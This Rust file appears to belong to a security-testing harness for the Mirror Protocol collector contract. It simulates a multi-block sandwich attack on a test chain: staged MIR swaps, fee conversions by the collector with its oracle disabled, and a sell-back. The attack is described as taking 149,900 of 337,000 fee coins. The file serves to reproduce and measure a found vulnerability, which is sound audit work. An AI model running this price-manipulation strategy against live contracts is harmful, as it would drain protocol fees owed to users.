//! Swaps before and after a swap of the collector, in different blocks.

use cosmwasm_std::{coin, Decimal, Uint128};
use mirror_protocol::collector::{ConfigUpdate, ExecuteMsg};
use mirror_testing::{standard_profile, TestChain, World, BASE};
use serde_json::json;
use terraswap::asset::Asset;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, MILLION};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "sandwich over blocks",
    story:
        "Without an oracle price of MIR the collector looked at the pool of the moment, and left \
            alone only one that had moved in the same block: 60 small steps in a block, a \
            conversion in each of the next three, and back, took 149,900 coins of 337,000.",
    run,
};

/// Both sides of the pool.
const POOL: u128 = MILLION;
/// The collector's fees in base coins.
const FEES: u128 = 337_000_000_000;
/// The steps of a swap.
const STEPS: u128 = 60;

/// One way of trying.
#[derive(Clone, Copy)]
struct Way {
    /// What the attacker pays for MIR, in multiples of the pool.
    times: u128,
    /// Blocks between the swaps and the first conversion.
    wait: usize,
    /// The number of conversions, one in a block.
    converts: usize,
    /// The attacker owns the pool, so that the commission of the swaps comes back.
    provides: bool,
}

/// The attack that was found first.
const KNOWN: Way = Way {
    times: 60,
    wait: 1,
    converts: 3,
    provides: false,
};

fn run() -> anyhow::Result<Findings> {
    let mut ways = vec![];
    for times in [1, 3, 60] {
        for (wait, converts) in [(0, 3), (1, 1), (1, 3), (3, 3), (1, 30)] {
            let way = Way {
                times,
                wait,
                converts,
                ..KNOWN
            };
            ways.push(way);
        }
    }
    let attempts: anyhow::Result<Vec<Attempt>> = ways.iter().map(|way| sandwich(*way)).collect();
    let kept = Way {
        times: 1,
        wait: 100,
        converts: 100,
        provides: false,
    };
    Ok(Findings {
        attempts: vec![Attempt::best(
            attempts?,
            format!(
                "bought MIR for 1 to 60 times the pool in 60 steps of a block, had the fees \
                 converted in it or in later blocks, once to 30 times, and sold it again; the \
                 best of {} ways",
                ways.len()
            ),
        )?],
        exposures: vec![sandwich(kept)?.exposes(
            "the price of MIR is four times too high for twenty minutes, and nobody sells",
        )],
    })
}

fn sandwich(way: Way) -> anyhow::Result<Attempt> {
    let mut trial = prepared(way)?;
    let mirror = trial.world.asset("MIR");
    let before = trial.world.token_balance(&mirror.token, &trial.attacker);
    let step = base(POOL * way.times / STEPS);
    let buy = |transaction: Transaction, _| transaction.swaps(&mirror.pair, step.clone());
    trial.does((0..STEPS).fold(Transaction::new(), buy))?;
    let bought = trial.world.token_balance(&mirror.token, &trial.attacker) - before;

    let convert = json!({ "convert": { "asset_token": BASE } });
    let collector = trial.world.at.collector.clone();
    for _ in 0..way.wait {
        trial.world.chain.pass(6);
    }
    for _ in 0..way.converts {
        trial.tries("T-76", Transaction::new().calls(&collector, &convert))?;
        trial.world.chain.pass(6);
    }
    let part = bought / Uint128::new(STEPS);
    let sell = |transaction: Transaction, _| {
        transaction.swaps(&mirror.pair, Asset::token(&mirror.token, part))
    };
    trial.does((0..STEPS).fold(Transaction::new(), sell))?;
    trial.ends(String::new())
}

/// MIR is worth 1, and the collector has no oracle for it; the fees are base coins.
fn prepared(way: Way) -> anyhow::Result<Trial> {
    let profile = standard_profile(&TestChain::new());
    let mut world = World::deployed_as(profile);
    let provider = if way.provides { "attacker" } else { "bob" };
    let who = world.chain.account(provider);
    world.gives_mir(&who, POOL);
    world.actor(provider).provides("MIR", POOL, POOL);
    let no_oracle = ExecuteMsg::UpdateConfig(Box::new(ConfigUpdate {
        mirror_oracle: Some(String::new()),
        ..ConfigUpdate::default()
    }));
    let collector = world.at.collector.clone();
    fixtures::governs(&mut world, &collector, &no_oracle)?;
    world.chain.fund(&collector, &[coin(FEES, BASE)]);
    world.chain.pass(1_200);
    Trial::new(world, &[("MIR", Decimal::one())])
}
